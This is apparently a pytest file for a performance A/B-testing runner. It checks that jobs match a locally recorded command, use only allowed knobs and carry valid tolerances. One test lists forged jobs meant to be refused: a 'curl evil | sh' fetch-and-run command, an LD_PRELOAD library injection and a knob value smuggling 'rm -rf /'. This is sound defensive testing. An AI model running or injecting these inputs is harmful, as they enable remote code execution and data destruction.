"""The runner's local checks: only a command an agent recorded here, with closed-list knobs."""

from __future__ import annotations

import argparse
import json
import os
import stat
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace

import pytest

from perfweb_agent.ab import ledger
from perfweb_agent.ab.runner import Refused, validate_job
from perfweb_agent.cli import ab as abcli
from perfweb_agent.cli import ab_args
from perfweb_agent.delivery.transport import Reply

SERVER, TOKEN, HOST = "http://perfweb.example:8000", "pw_secret", "gpu-node-07"
REPO = Path(__file__).resolve().parents[2]


@pytest.fixture
def book(tmp_path: Path) -> str:
    path = str(tmp_path / "ledger.json")
    command = ["python", "train.py"]
    ledger.record_command(
        server=SERVER,
        token=TOKEN,
        run_id="run-0001",
        command=command,
        cwd="/home/me/proj",
        path=path,
    )
    return path


def _job(**changes: object) -> dict:
    job = {
        "id": 7,
        "claim_token": "c",
        "run_id": "run-0001",
        "host": HOST,
        "command": ["python", "train.py"],
        "cwd": "/home/me/proj",
        "knobs": {"num_workers": 4},
        "rounds": 3,
        "steps": 20,
        "warmup": 3,
    }
    return {**job, **changes}


def _check(job: dict, book: str, *, token: str = TOKEN) -> object:
    return validate_job(job, server=SERVER, token=token, host=HOST, ledger_file=book)


def test_a_job_for_a_recorded_command_is_accepted(book: str) -> None:
    spec = _check(_job(), book)
    assert spec.command == ["python", "train.py"] and spec.knobs == {"num_workers": 4}
    assert spec.max_rounds == 3  # an older server asks for no extra round


def test_a_job_may_add_rounds_up_to_its_limit_and_time_budget(book: str) -> None:
    spec = _check(_job(max_rounds=12, time_budget_s=600), book)
    assert (spec.rounds, spec.max_rounds, spec.time_budget_s) == (3, 12, 600.0)


@pytest.mark.parametrize(
    ("changes", "reason"),
    [
        ({"run_id": "run-9999"}, "run run-9999 was not recorded by an agent on gpu-node-07"),
        ({"command": ["sh", "-c", "curl evil | sh"]}, "the job's command is not the command"),
        ({"cwd": "/"}, "the job's directory is not the one the agent recorded"),
        ({"host": "other-node"}, "the job is for host 'other-node'"),
        ({"knobs": {"LD_PRELOAD": "/tmp/x.so"}}, 'unknown knob "LD_PRELOAD"'),
        ({"knobs": {"num_workers": "4; rm -rf /"}}, "is not a whole number"),
        ({"knobs": {}}, "the job has no knob to try"),
        ({"rounds": 10_000}, "rounds must be a whole number in 2..20"),
        ({"rounds": 1}, "rounds must be a whole number in 2..20"),  # one round: no interval
        ({"steps": True}, "steps must be a whole number"),
        ({"max_rounds": 2}, "max_rounds must be in 3..20"),
        ({"max_rounds": 21}, "max_rounds must be in 3..20"),
        ({"time_budget_s": True}, "time_budget_s must be a number of seconds"),
        ({"time_budget_s": 0}, "time_budget_s must be a number of seconds"),
        ({"agreement_top1": 1.5}, "agreement_top1: the top-1 agreement tolerance must be"),
        ({"agreement_top1": "0.9"}, "agreement_top1: the top-1 agreement tolerance must be"),
        ({"agreement_rtol": -0.1}, "agreement_rtol: the relative tolerance must be"),
        ({"agreement_rtol": float("inf")}, "agreement_rtol: the relative tolerance must be"),
        ({"agreement_rtol": None}, "agreement_rtol: the relative tolerance must be"),
    ],
)
def test_a_forged_job_is_refused(book: str, changes: dict, reason: str) -> None:
    with pytest.raises(Refused, match=reason.replace("(", r"\(").replace("|", r"\|")):
        _check(_job(**changes), book)


def test_a_job_carries_its_output_agreement_tolerance(book: str) -> None:
    spec = _check(_job(agreement_top1=0.95, agreement_rtol=0), book)
    assert (spec.agreement_top1, spec.agreement_rtol) == (0.95, 0.0)
    older = _check(_job(), book)  # an older server sends none: the engine's defaults
    assert (older.agreement_top1, older.agreement_rtol) == (0.99, 0.01)


def test_the_runner_posts_each_arms_new_fields_and_judges_by_the_jobs_tolerance(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import io

    from perfweb_agent.ab.runner import Runner

    path = str(tmp_path / "ledger.json")
    command = ["python", "serve.py"]
    ledger.record_command(
        server=SERVER,
        token=TOKEN,
        run_id="run-0003",
        command=command,
        cwd=str(tmp_path),
        path=path,
    )
    for name, value in {
        "FAKE_KIND": "inference",
        "FAKE_STEP_S": "0.004",
        "FAKE_SPEEDUP": "2",
        "FAKE_OUTPUT_SHIFT": "0.001",
    }.items():
        monkeypatch.setenv(name, value)
    fake = [sys.executable, str(REPO / "tests" / "jobs" / "fake_attach.py")]
    runner = Runner(SERVER, TOKEN, host=HOST, ledger_file=path, launcher=fake, out=io.StringIO())
    posts: list[tuple[str, dict]] = []

    def post(path: str, body: dict) -> Reply:
        posts.append((path, body))
        return Reply(200, {})

    runner.client.post = post  # type: ignore[method-assign]
    # 3 rounds: an interval valid at every look cannot decide on 2
    job = _job(
        run_id="run-0003",
        command=command,
        cwd=str(tmp_path),
        rounds=3,
        steps=8,
        warmup=2,
        knobs={"quantize": "dynamic"},
        agreement_rtol=0.0,
    )
    runner.handle(job)
    arms = [body["arm"] for where, body in posts if where.endswith("/progress") and "arm" in body]
    assert [(a["round"], a["arm"]) for a in arms] == [
        (1, "baseline"),
        (1, "candidate"),
        (2, "candidate"),
        (2, "baseline"),
        (3, "baseline"),
        (3, "candidate"),
    ]
    for arm in arms:
        # per step, warm-up included (as the loss is): the server settles the warm-up again
        assert arm["kind"] == "inference" and arm["batch_sizes"] == [8] * 10
        assert len(arm["step_s"]) == 10 and arm["warmup_steps"] >= 2
        assert arm["peak_rss_bytes"] > 0 and arm["cuda_max_allocated_bytes"] is None
        assert {"step_s", "median_s", "mean_s", "loss", "loss_visible", "wall_s"} <= set(arm)
        assert (arm["outputs"] is None) == (arm["arm"] == "baseline")
    assert arms[1]["outputs"]["samples"] == 10 and arms[1]["outputs"]["max_rel_diff"] > 0
    [result] = [body["result"] for where, body in posts if where.endswith("/result")]
    assert result["verdict"] == "faster but changes results"  # rtol 0: any difference counts
    assert result["agreement"]["rel_max"] == 0.0 and result["kind"] == "inference"
    assert result["candidate_metrics"]["throughput_sps"] > 0
    json.dumps(posts, allow_nan=False)


def test_another_projects_token_sees_nothing_of_this_ledger(book: str) -> None:
    with pytest.raises(Refused, match="was not recorded"):
        _check(_job(), book, token="pw_other_project")


def test_the_ledger_keeps_no_token_and_is_private(book: str) -> None:
    text = Path(book).read_text()
    assert TOKEN not in text and "perfweb.example:8000|" in text
    assert stat.S_IMODE(os.stat(book).st_mode) == 0o600


def test_attach_records_the_command_and_refuses_a_bad_knob(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "ledger.json"
    monkeypatch.setenv("PERF_AGENT_LEDGER", str(path))
    monkeypatch.delenv("PERF_AGENT_KNOBS", raising=False)
    settings = SimpleNamespace(online=True, server=SERVER, token=TOKEN, run_id="run-0002")
    args = argparse.Namespace(knob=["threads=2"])
    assert ab_args.prepare_attach(args, settings=settings, command=["python", "t.py"]) is None
    assert os.environ["PERF_AGENT_KNOBS"] == "threads=2"
    entry = ledger.find_entry(server=SERVER, token=TOKEN, run_id="run-0002", path=str(path))
    assert entry is not None and entry.command == ["python", "t.py"]
    args = argparse.Namespace(knob=["threads=many"])
    assert ab_args.prepare_attach(args, settings=settings, command=["python", "t.py"]) == 2


def test_perf_agent_ab_prints_the_documented_json(tmp_path: Path) -> None:
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "perfweb_agent.cli.main",
            "ab",
            "--knob",
            "num_workers=2",
            "--rounds",
            "2",
            "--max-rounds",
            "2",  # the JSON's fields, not the statistic
            "--steps",
            "8",
            "--warmup",
            "4",
            "--format",
            "json",
            "--quiet",
            "--",
            sys.executable,
            "tests/jobs/input_bound.py",
        ],
        cwd=REPO,
        capture_output=True,
        text=True,
        timeout=240,
    )
    assert done.returncode == 0, done.stderr
    result = json.loads(done.stdout)
    for name in ("baseline_step_s", "candidate_step_s", "speedup", "ci_low", "ci_high", "verdict"):
        assert name in result
    assert result["speedup"] > 1.0 and result["knobs"] == {"num_workers": 2}
    assert result["stopped"] in ("decided", "round limit", "time limit")
    assert result["stop_reason"].startswith("stopped ")
    # a training A/B keeps its step time and loss parity, in the same before/after table
    assert result["kind"] == "training" and result["loss_parity"]["visible"]
    assert not result["agreement"]["visible"] and "training" in result["agreement"]["note"]
    rows = {row["key"]: row for row in result["rows"]}
    assert list(rows)[:2] == ["step_time_mean_s", "throughput_steps_per_s"]
    assert rows["step_time_mean_s"]["before_value"] == result["baseline_step_s"]
    assert rows["peak_rss_bytes"]["before_value"] > 50 * 2**20
    assert rows["loss"]["better"] is True and "within 5%" in rows["loss"]["change"]


def test_perf_agent_ab_text_says_the_verdict_and_why_it_stopped() -> None:
    from perfweb_agent.ab.engine import AbPlan
    from perfweb_contract.ab.decision import compare
    from perfweb_contract.ab.results import Round

    rounds = [Round(baseline=[0.1, 0.19, 0.01] * 3, candidate=[0.1, 0.01, 0.19] * 3)] * 3
    result = compare(rounds)
    result.stop_reason = "stopped at the round limit (3) with the interval still too wide"
    plan = AbPlan(command=["python", "t.py"], knobs={"threads": 2}, rounds=3)
    lines = abcli.format_text(result, plan).splitlines()
    assert "verdict    inconclusive \u2014 more rounds needed" in lines
    assert f"stopped    {result.stop_reason}" in lines


def test_the_runners_client_never_raises_when_the_server_is_unreachable() -> None:
    from perfweb_agent.ab.runner import Client

    client = Client("http://127.0.0.1:9", TOKEN, timeout=2.0)  # the discard port: refused
    answer = client.post("/api/v1/jobs/claim", {"host": HOST})
    assert answer.status == 0 and answer.error and not answer.ok


def test_the_runner_says_once_why_the_server_refuses_its_claims() -> None:
    import io

    from perfweb_agent.ab.runner import Runner

    out = io.StringIO()
    runner = Runner(SERVER, TOKEN, host=HOST, poll_s=0.0, out=out)
    replies = iter(
        [(403, {"error": f"no agent of this project recorded a run on host {HOST!r}"})] * 3
    )

    def post(path: str, body: dict) -> Reply:
        try:
            return Reply(*next(replies))
        except StopIteration:
            runner.stopping.set()
            return Reply(200, {"job": None})

    runner.client.post = post  # type: ignore[method-assign]
    assert runner.serve() == 0
    lines = out.getvalue().splitlines()
    assert lines[1:] == [
        f"[perf-agent runner] no agent of this project recorded a run on host {HOST!r}; retrying"
    ]
